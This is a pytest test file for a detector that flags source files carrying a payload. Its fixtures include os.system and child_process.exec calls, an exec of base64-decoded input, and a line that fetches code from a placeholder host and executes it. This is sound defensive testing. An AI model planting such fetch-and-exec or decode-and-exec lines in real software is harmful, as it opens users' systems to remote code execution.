"""Which files may carry a payload."""

import pytest

from pratique.analysis.clones.payload import foreign_flows, is_proven, payload_lines
from pratique.analysis.facts import FileFacts, Language
from pratique.analysis.languages import readers
from pratique.core.tree import File


def facts(source: str, language: Language = Language.PYTHON) -> FileFacts:
    return readers.read(File("a", source.encode()), language)


@pytest.mark.parametrize(
    ("source", "language"),
    [
        ("import os\nos.system('echo marker')\n", Language.PYTHON),
        ("import urllib.request as u\nu.urlopen('http://a.invalid/')\n", Language.PYTHON),
        ("from base64 import b64decode\ndef f(x):\n    exec(b64decode(x))\n", Language.PYTHON),
        ("require('child_process').exec('echo marker')\n", Language.JAVASCRIPT),
    ],
)
def test_code_that_acts_while_it_is_loaded_or_runs_what_it_decodes_carries_one(
    source: str, language: Language
) -> None:
    assert payload_lines(facts(source, language))


@pytest.mark.parametrize(
    "source",
    [
        "def run(args):\n    import subprocess\n    return subprocess.run(args)\n",
        "exec('''def again(error):\n    raise error\n''')\n",
        "import json\nprint(json.dumps({}))\n",
    ],
)
def test_ordinary_libraries_carry_none(source: str) -> None:
    assert frozenset() == payload_lines(facts(source))


def test_the_lines_are_those_of_what_acts() -> None:
    assert {2} <= payload_lines(facts("import os\nos.system('echo marker')\nx = 1\n"))


def test_what_is_fetched_and_run_is_a_foreign_flow() -> None:
    source = "import urllib.request\nexec(urllib.request.urlopen('http://a.invalid/').read())\n"
    assert foreign_flows(facts(source))
    assert () == foreign_flows(facts("print('x')\n"))
    assert is_proven(facts(source))
    assert not is_proven(facts("import os\nos.system('echo marker')\n"))


def test_a_manifest_carries_none() -> None:
    assert frozenset() == payload_lines(FileFacts(language=Language.JSON))
